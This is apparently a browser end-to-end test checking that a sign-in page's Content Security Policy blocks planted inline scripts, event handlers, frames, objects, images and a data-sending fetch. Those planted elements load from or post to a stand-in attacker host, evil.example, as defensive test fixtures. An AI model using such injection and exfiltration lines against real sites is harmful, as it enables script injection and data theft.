import { expect, test } from './journey-test';

test('the Content Security Policy blocks planted scripts and requests', async ({ page, faults }) => {
  faults.expect(/Content Security Policy/, /evil\.example/);
  await page.goto('/signin');
  await page.evaluate(() => {
    const stopped: string[] = [];
    Object.assign(window, { stopped });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      stopped.push(effectiveDirective),
    );
    const plant = (tag: string, attributes: Record<string, string>, text = '') => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    plant('script', {}, 'window.planted = true');
    plant('script', { src: 'https://evil.example/a.js' });
    plant('button', { onclick: 'window.planted = true' }).click();
    plant('img', { src: 'https://evil.example/a.png' });
    plant('iframe', { src: 'https://evil.example/' });
    plant('object', { data: 'https://evil.example/' });
    void fetch('https://evil.example/', { method: 'POST', body: 'a' }).catch(() => undefined);
  });
  await expect
    .poll(() =>
      page.evaluate(() => [...new Set((window as unknown as { stopped: string[] }).stopped)].sort()),
    )
    .toEqual(['connect-src', 'frame-src', 'img-src', 'object-src', 'script-src-attr', 'script-src-elem']);
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
});
